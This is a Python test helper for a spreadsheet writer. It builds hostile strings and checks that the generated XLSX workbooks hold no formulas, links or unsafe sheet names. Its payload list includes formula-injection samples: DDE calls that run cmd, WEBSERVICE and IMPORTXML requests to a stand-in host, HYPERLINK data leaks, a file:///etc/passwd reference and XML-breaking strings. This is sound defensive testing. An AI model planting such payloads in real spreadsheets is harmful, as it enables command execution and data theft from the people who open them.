"""Strings that a spreadsheet would take for more than text, as cells, heads, titles, names of pages
and of files; and a judge of workbooks that knows nothing of what made them."""

import re
from collections import Counter
from collections.abc import Iterator, Sequence
from io import BytesIO
from itertools import product
from random import Random
from xml.etree import ElementTree
from zipfile import ZipFile

from python_calamine import load_workbook

from clerkdesk.domain.form.sheetform import Column
from clerkdesk.domain.memo.book import Book, BookPage
from clerkdesk.domain.memo.tracking import Sheet
from clerkdesk.sheet import write_book
from clerkdesk.sheet.celltext import legal
from tests.sheet.sheets import BREAKER, a_sheet, width_of

_BEFORE = (
    "",
    " ",
    "\t",
    "\n",
    "\r",
    "\ufeff",
    "\u200b",
    "'",
    '"',
    "\x00",
    "ก",
    "\u202e",
    "{",
    ";,",
)
_SIGNS = ("=", "+", "-", "@", "＝", "=-", "|", "_x003D_", "&#61;", "#", "%", "==", "\uff20")
_WHAT = (
    "1+1",
    'HYPERLINK("http://example.invalid/?"&A1,"กดที่นี่")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.invalid/")',
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "'file:///etc/passwd'#$Sheet1.A1",
    "'\\\\server\\share\\[a.xlsx]1'!A1",
    'DDE("cmd";"/C calc";"x")',
    "REF!",
    "N/A",
    "SUM(A:XFD)",
    "</t></is></c><c r='A9'><f>1+1</f></c>",
    "]]><f>1+1</f><![CDATA[",
    "&A&G&Z",
    "[1]แผ่น!A1",
    "LAMBDA(x,x)(1)",
    "ที่ปั๊มน้ำ",
    "A1:B2",
    "\U0001f600\ud800\uffff",
)
_AFTER = ("", " ", "\r\n=2+2", "\t=2+2", '"', "ก" * 40, "_x000D_=1")

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/_rels/workbook\.xml\.rels"
    r"|xl/(workbook|styles|sharedStrings|theme/theme1)\.xml|xl/worksheets/sheet\d+\.xml"
)
_RANGE = re.compile(r"'(?:[^']|'')*'!\$?[A-Z]*\$?\d+:\$?[A-Z]*\$?\d+")
_RUNNING = "หน้า &P จาก &N"
_KINDS = ("n", "s", "inlineStr")
_UNFIT_FOR_TAB = re.compile(r"[\[\]:*?/\\\x00-\x1f]|^'|'$|^$|^history$", re.IGNORECASE)


def hostile_strings(count: int, seed: int) -> list[str]:
    """So many different strings, the same for the same seed."""
    whole = ["".join(parts) for parts in product(_BEFORE, _SIGNS, _WHAT, _AFTER)]
    Random(seed).shuffle(whole)
    return list(dict.fromkeys(whole))[:count]


def write_everywhere(strings: Sequence[str]) -> Counter[str]:
    """Writes each as a cell (of a short book and of a long one), a head, a title and the name of a
    page; counts what became more than the text that it was, by what is wrong."""
    wrong: Counter[str] = Counter()
    for begin in range(0, len(strings), 60):
        some = strings[begin : begin + 60]
        wrong.update(_judged(_of_pages(some), [[each] * 3 for each in some]))
    for begin in range(0, len(strings), 1000):
        many = strings[begin : begin + 1000]
        wrong.update(_judged(_of_one(many), [many]))
    return wrong


def _of_pages(strings: Sequence[str]) -> Book:
    """A page for each, on which it is everything."""
    pages = tuple(BookPage(each, _page(each)) for each in strings)
    return Book(strings[0], pages, len(pages))


def _page(text: str) -> Sheet:
    column = (Column("subject", text, width=40),)
    made = a_sheet([(text,)], columns=column, signers=(), name=text)
    return Sheet(text, (text,), column, made.rows, (), made.form, made.office)


def _of_one(strings: Sequence[str]) -> Book:
    """One page, long enough to be written as long sheets are."""
    rows = [(each,) for each in strings]
    return Book.of_one(a_sheet(rows, columns=(Column("subject", "เรื่อง", width=40),)))


def _judged(book: Book, texts: Sequence[Sequence[str]]) -> Iterator[str]:
    """What is wrong with a book, on each page of which ``texts`` have to stand."""
    content = write_book(book, width_of=width_of, breaker=BREAKER).content
    yield from found_in(content)
    read = load_workbook(BytesIO(content))
    for place, wanted in enumerate(texts):
        rows = read.get_sheet_by_index(place).to_python()
        held = Counter(cell for row in rows for cell in row)
        missing = Counter(legal(each) for each in wanted) - held
        yield from ("not as it was" for each in missing.elements() if each.strip())


def found_in(content: bytes) -> Iterator[str]:
    """What in a workbook is more than text, numbers and days."""
    with ZipFile(BytesIO(content)) as parts:
        for name in parts.namelist():
            if not _PARTS.fullmatch(name):
                yield f"part {name}"
            text = parts.read(name)
            if b"<!DOCTYPE" in text or (b"External" in text and name.endswith(".rels")):
                yield "link outside"
            if name.startswith("xl/worksheets"):
                yield from _in_page(ElementTree.fromstring(text))
        yield from _in_book(ElementTree.fromstring(parts.read("xl/workbook.xml")))


def _in_page(page: ElementTree.Element) -> Iterator[str]:
    yield from ("formula" for _ in page.iter(f"{_MAIN}f"))
    yield from ("hyperlink" for _ in page.iter(f"{_MAIN}hyperlink"))
    cells = page.iter(f"{_MAIN}c")
    yield from ("kind of cell" for each in cells if each.get("t", "n") not in _KINDS)
    said = "".join(part for foot in page.iter(f"{_MAIN}oddFooter") for part in foot.itertext())
    if said and not said.endswith(_RUNNING):
        yield "running line"


def _in_book(book: ElementTree.Element) -> Iterator[str]:
    names = [each.get("name", "") for each in book.iter(f"{_MAIN}sheet")]
    yield from ("name of page" for name in names if _unfit_for_tab(name))
    if len({name.casefold() for name in names}) < len(names):
        yield "names of pages alike"
    for each in book.iter(f"{_MAIN}definedName"):
        if not all(_RANGE.fullmatch(part) for part in _RANGE.findall(each.text or "")):
            yield "name for cells"
        if _RANGE.sub("", each.text or "").strip(","):
            yield "name for cells"


def _unfit_for_tab(name: str) -> bool:
    return _UNFIT_FOR_TAB.search(name) is not None or len(name.encode("utf-16-le")) > 62
